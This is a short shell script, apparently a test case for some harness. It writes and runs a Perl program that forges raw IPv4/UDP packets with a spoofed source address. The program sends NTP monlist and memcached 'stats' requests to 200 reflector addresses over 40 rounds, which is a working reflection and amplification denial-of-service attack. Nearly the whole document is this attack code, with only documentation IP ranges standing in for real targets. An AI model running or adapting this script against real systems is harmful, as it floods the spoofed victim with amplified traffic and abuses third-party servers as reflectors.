#!/bin/sh
. /opt/case/case.sh

cat >/tmp/amp.pl <<'END'
use Socket;
socket(my $s, PF_INET, SOCK_RAW, 255) or die $!; setsockopt($s, 0, 3, 1);
my $sent = 0;
for my $round (1 .. 40) { for my $n (1 .. 200) {
    my ($port, $body) = $n % 2 ? (123, "\x17\x00\x03\x2a" . "\0" x 4) : (11211, "\0\1\0\0\0\1\0\0stats\r\n");
    my $udp = pack("nnnn", 40000 + $n, $port, 8 + length $body, 0) . $body;
    my $ip = pack("CCnnnCCna4a4", 0x45, 0, 20 + length $udp, $round, 0, 64, 17, 0, inet_aton("203.0.113.99"), inet_aton("198.51.100.$n"));
    $sent++ if send($s, $ip . $udp, 0, sockaddr_in($port, inet_aton("198.51.100.$n")));
} }
die "only $sent" if $sent < 4000;
END
perl /tmp/amp.pl
took_place
